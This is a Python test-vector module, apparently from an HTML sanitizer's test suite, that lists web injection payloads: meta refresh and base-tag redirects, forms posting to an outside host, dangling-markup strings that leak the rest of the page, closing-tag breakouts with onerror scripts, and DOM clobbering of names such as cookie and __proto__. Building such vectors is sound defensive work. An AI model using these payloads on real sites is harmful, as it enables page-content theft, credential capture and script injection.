"""What takes over the page around it: refresh, base, forms, frames, dangling markup, clobbered names."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

from tests.vectors.vector import Vector, vectors_of

_REFRESH = (
    '<meta http-equiv="refresh" content="0;url=%NET%">',
    "<meta http-equiv=refresh content=0;%NET%>",
    "<meta http-equiv=refresh content='0; URL=%NET%'>",
    "<meta http-equiv=refresh content='0,url=\"%NET%\"'>",
    "<META HTTP-EQUIV=REFRESH CONTENT='0;URL=//%BARE%'>",
    "<meta http-equiv=&#114;efresh content='0;url=%NET%'>",
    "<meta content='0;url=%NET%' http-equiv=refresh>",
    "<meta/http-equiv=refresh/content='0;url=%NET%'>",
    "<svg><meta http-equiv=refresh content='0;url=%NET%'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>%RUN%</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:%RUN%'>",
    "<meta http-equiv=set-cookie content='x=%RUN%'>",
    "<meta http-equiv=content-security-policy content=\"script-src * 'unsafe-inline'\">",
    "<meta http-equiv=content-type content='text/html;charset=utf-7'>",
    "<meta http-equiv=x-dns-prefetch-control content=on><a href=//%BARE%>x</a>",
    "<meta http-equiv=link content='<%NET%>;rel=preload;as=image'>",
    "<meta http-equiv=accept-ch content=DPR><meta name=referrer content=unsafe-url>",
    "<meta name=viewport content='width=1'><meta http-equiv=default-style content=x>",
    "<meta http-equiv=origin-trial content=x><meta http-equiv=delegate-ch content='dpr %NET%'>",
)
_BASE = (
    '<base href="%NET%/"><img src=x><a href=x>x</a>',
    "<base href=//%BARE%/><link rel=stylesheet href=x>",
    '<base target="_top"><a href="https://example.org">x</a>',
    '<base href="javascript:%RUN%//"><a href=#x>x</a>',
    "<base target='<img src=%NET%>'><a href=https://example.org>x</a>",
    "<svg><base href=%NET%/></svg><img src=x>",
)
_FORMS = (
    '<form action="%NET%"><input name=x value=y><input type=submit autofocus></form>',
    '<form action="%NET%" method=post enctype=text/plain><input name=x></form>',
    '<form action="javascript:%RUN%"><button autofocus>x</button></form>',
    '<form id=f action="%NET%"></form><input form=f type=submit>',
    '<button formaction="%NET%" type=submit form=f>x</button>',
    '<input type=submit formaction="%NET%" formtarget=_top>',
    '<input type=image formaction="%NET%" src=x>',
    '<form target=_top action="%NET%"><input name=password type=password autofocus></form>',
    "<form><input type=password name=p autocomplete=current-password></form>",
    '<form action="%NET%"><textarea name=x>the rest of the page',
    '<form action="%NET%"><select name=x><option>the rest',
    '<form action="%NET%"><button name=x value="the rest',
    "<button commandfor=x command=show-modal>x</button><dialog id=x>y</dialog>",
    "<button popovertarget=x>y</button><div id=x popover><script>%RUN%</script></div>",
    "<isindex action=%NET% prompt=x>",
    "<input type=file webkitdirectory autofocus onchange=%RUN%>",
    "<label for=x>y</label><input id=x type=button onclick=%RUN%>",
)
_NAVIGATION = (
    '<a href="https://example.org" target="{t}">x</a>',
    '<a href="https://example.org" target="{t}" rel=opener>x</a>',
    '<map name=m><area shape=default href="%NET%" target="{t}"></map><img usemap=#m>',
    '<svg><a href="%NET%" target="{t}"><text y=9>x</text></a></svg>',
    '<form target="{t}" action="%NET%"><input type=submit></form>',
)
_TARGETS = ("_top", "_parent", "_self", "_TOP", " _top", "_top\n<", "x", "_unfencedTop", "")
_DANGLING = (
    "<img src='%NET%?",
    '<img src="%NET%?',
    "<img src=%NET%?",
    "<img alt='x' src='%NET%?\n<p>",
    "<a href='%NET%?",
    '<a href="https://example.org/?',
    "<a target='",
    "<base target='",
    "<a href=https://example.org title='",
    "<p style='background:url(%NET%?",
    "<style>@import '%NET%?",
    "<style>p{background:url(%NET%?",
    "<table background='%NET%?",
    "<input type=image src='%NET%?",
    "<iframe src='%NET%?",
    "<object data='%NET%?",
    "<meta http-equiv=refresh content='0;url=%NET%?",
    "<link rel=stylesheet href='%NET%?",
    "<form action='%NET%'><input type=submit><textarea>",
    "<plaintext>",
    "<xmp>",
    "<textarea>",
    "<title>",
    "<style>",
    "<script>",
    "<noscript>",
    "<iframe>",
    "<noframes>",
    "<noembed>",
    "<template>",
    "<select>",
    "<svg>",
    "<math>",
    "<!--",
    "<![CDATA[",
    "<?",
    "</",
    "<",
    "<a",
    "<a ",
    "<a href",
    "<a href=",
    "<a href='",
    "&",
    "&#",
    "&#x",
)
_CLOSING = tuple(
    f"{start}<img src=x onerror=%RUN%><script>%RUN%</script>"
    for start in (
        "</div></div></div></div>",
        "</body></html>",
        "</details></details></blockquote>",
        "</body><body onload=%RUN%>",
        "</html><html onclick=%RUN%>",
        "<html onmouseover=%RUN%><body onmouseover=%RUN% bgcolor=red>",
        "</table></td></tr></table>",
        "</main></article></section>",
        "</p></p></br>",
        "</svg></math></style></script></title></textarea>",
    )
)
_CLOBBERED = tuple(
    f"<{element} id={name} name={name} href='cid:{name}'>x</{element}>"
    for element, name in product(
        ("img", "a", "form", "object", "embed", "iframe", "div"),
        ("RAN", "top", "body", "attributes", "documentElement", "cookie", "__proto__", "getElementById"),
    )
) + (
    "<form id=x><input name=attributes><input name=parentNode></form>",
    "<form id=x><input id=nodeName><img src=x onerror=%RUN%></form>",
    "<form><input name=innerHTML><input name=childNodes><script>%RUN%</script></form>",
    "<a id=config><a id=config name=url href='%NET%'></a></a>",
    "<iframe name=self srcdoc='<a id=x>'></iframe>",
    "<p class='text quoted' id='app' data-remote='blocked' slot=x part=x is=x>x</p>",
    "<p role=button aria-live=assertive aria-label='x' tabindex=1 accesskey=x contenteditable>x</p>",
    "<p itemscope itemtype='%NET%' itemid='%NET%' property=og:image resource='%NET%'>x</p>",
    "<p xml:base='%NET%' xmlns='%NET%' xlink:href='%NET%' xml:space=x>x</p>",
)


def vectors() -> Iterator[Vector]:
    """All of them, and the dangling ones with words behind."""
    yield from vectors_of("refresh and other meta", _REFRESH)
    yield from vectors_of("base", _BASE)
    yield from vectors_of("forms", _FORMS)
    pairs = product(_NAVIGATION, _TARGETS)
    yield from vectors_of("navigation", (html.replace("{t}", target) for html, target in pairs))
    yield from vectors_of("dangling markup", _DANGLING)
    rest = "<img src=x onerror=%RUN%><script>%RUN%</script>"
    yield from vectors_of("dangling markup", (html + rest for html in _DANGLING))
    yield from vectors_of("end tags of the page around", _CLOSING)
    yield from vectors_of("clobbered names", _CLOBBERED)
